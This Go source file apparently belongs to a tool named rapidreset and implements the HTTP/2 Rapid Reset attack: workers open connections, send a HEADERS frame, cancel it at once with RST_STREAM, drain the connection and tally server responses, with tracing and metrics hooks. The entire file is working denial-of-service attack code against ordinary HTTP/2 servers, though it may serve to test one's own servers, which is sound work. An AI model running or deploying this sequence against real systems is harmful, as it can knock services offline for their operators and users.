// Package attack drives the rapid reset sequence. A Worker opens one HTTP/2
// connection, sends a single HEADERS frame, cancels the stream with
// RST_STREAM and drains the connection. The Driver fans Workers out through
// the runner and turns the shared counters into a report.
package attack

import (
	"context"
	"errors"
	"io"
	"os"
	"time"

	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/trace"
	"go.opentelemetry.io/otel/trace/noop"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/torosent/rapidreset/internal/h2session"
	"github.com/torosent/rapidreset/internal/metrics"
	"github.com/torosent/rapidreset/internal/tracing"
)

// Plan is the configuration shared by every worker of a run.
type Plan struct {
	Dial      DialFunc
	Scheme    string
	Authority string
	Path      string
	// Target is the full URL, used only for span attributes.
	Target string

	ResetDelay time.Duration
	// DrainTimeout bounds the wait for the peer to close the connection
	// after the reset. Zero waits until the peer closes or ctx is cancelled.
	DrainTimeout time.Duration

	Counters  *metrics.Counters
	Collector *metrics.Collector

	Tracer    trace.Tracer
	Propagate bool

	// Logf receives per-frame lines when set.
	Logf func(format string, args ...any)
	// OnStateChange observes every state transition. Tests use it.
	OnStateChange func(worker int, s State)
}

// Worker performs one attack on its own connection.
type Worker struct {
	ID   int
	plan *Plan

	attempt StreamAttempt
}

// NewWorker returns a worker bound to plan.
func NewWorker(id int, plan *Plan) *Worker {
	return &Worker{
		ID:   id,
		plan: plan,
		attempt: StreamAttempt{
			Path:      plan.Path,
			Authority: plan.Authority,
			State:     StateConnecting,
		},
	}
}

// Attempt returns the worker's stream as last observed.
func (w *Worker) Attempt() StreamAttempt {
	return w.attempt
}

// Run executes the sequence once. A nil return means the stream was opened,
// reset and the connection drained.
func (w *Worker) Run(ctx context.Context) (err error) {
	p := w.plan
	tracer := p.Tracer
	if tracer == nil {
		tracer = noop.NewTracerProvider().Tracer("")
	}
	ctx, span := tracing.StartWorkerSpan(ctx, tracer, w.ID, p.Target)
	defer func() {
		// The last state reached before Done tells where a failure happened.
		last := w.attempt.State
		w.transition(StateDone)
		tracing.EndSpan(span, err,
			attribute.Int64("rapidreset.stream_id", int64(w.attempt.StreamID)),
			attribute.String("rapidreset.last_state", last.String()),
		)
	}()
	w.transition(StateConnecting)

	sess, err := p.Dial(ctx)
	if err != nil {
		return &ConnectError{Worker: w.ID, Err: err}
	}
	p.Counters.AddConnection()
	defer func() {
		sess.Close()
		if p.Collector != nil {
			m := sess.Metrics()
			p.Collector.RecordBytes(m.BytesSent, m.BytesReceived)
		}
	}()
	stop := context.AfterFunc(ctx, func() { sess.Close() })
	defer stop()

	if err := sess.Initiate(); err != nil {
		return &ConnectError{Worker: w.ID, Err: err}
	}

	id := sess.NextStreamID()
	w.attempt.StreamID = id
	var extra []hpack.HeaderField
	if p.Propagate {
		extra = tracing.InjectHeaderFields(ctx)
	}
	fields := h2session.RequestFields(p.Scheme, p.Authority, p.Path, extra...)
	if err := sess.SendHeaders(id, fields, true); err != nil {
		return w.protocolError(ctx, err)
	}
	sentAt := time.Now()
	p.Counters.AddHeadersSent()
	w.logf("[%d] Sent HEADERS on stream %d", w.ID, id)
	w.transition(StateHeadersSent)

	w.transition(StateAwaitingReset)
	if err := sleep(ctx, p.ResetDelay); err != nil {
		return err
	}

	if err := sess.ResetStream(id, http2.ErrCodeCancel); err != nil {
		return w.protocolError(ctx, err)
	}
	if p.Collector != nil {
		p.Collector.RecordResetDelay(time.Since(sentAt))
	}
	p.Counters.AddResetsSent()
	w.logf("[%d] Sent RST_STREAM on stream %d", w.ID, id)
	w.transition(StateResetSent)

	w.transition(StateDraining)
	return w.drain(ctx, sess)
}

func (w *Worker) drain(ctx context.Context, sess Session) error {
	p := w.plan
	if p.DrainTimeout > 0 {
		if err := sess.SetReadDeadline(time.Now().Add(p.DrainTimeout)); err != nil {
			return w.protocolError(ctx, err)
		}
	}
	for {
		ev, err := sess.NextEvent()
		if err != nil {
			switch {
			case errors.Is(err, io.EOF), ctx.Err() != nil, errors.Is(err, os.ErrDeadlineExceeded):
				return nil
			default:
				return w.protocolError(ctx, err)
			}
		}
		p.Counters.AddFramesReceived()
		w.logf("Received frame: %s", ev)

		switch ev.Kind {
		case h2session.EventResponseReceived:
			p.Counters.AddEventsReceived()
		case h2session.EventStreamReset:
			p.Counters.AddResetsReceived()
			w.recordPeerCode("RST_STREAM", ev.ErrCode)
		case h2session.EventGoAway:
			p.Counters.AddGoAwaysReceived()
			w.recordPeerCode("GOAWAY", ev.ErrCode)
		}
	}
}

func (w *Worker) recordPeerCode(frame string, code http2.ErrCode) {
	if w.plan.Collector != nil {
		w.plan.Collector.RecordPeerCode(frame, code.String())
	}
}

// protocolError wraps err with the stream context. A write that failed because
// ctx closed the session reports the cancellation instead.
func (w *Worker) protocolError(ctx context.Context, err error) error {
	if ctx.Err() != nil {
		return ctx.Err()
	}
	return &ProtocolError{
		Worker:   w.ID,
		StreamID: w.attempt.StreamID,
		State:    w.attempt.State,
		Err:      err,
	}
}

func (w *Worker) transition(s State) {
	w.attempt.State = s
	if w.plan.OnStateChange != nil {
		w.plan.OnStateChange(w.ID, s)
	}
}

func (w *Worker) logf(format string, args ...any) {
	if w.plan.Logf != nil {
		w.plan.Logf(format, args...)
	}
}

// sleep waits for d or until ctx is done.
func sleep(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}
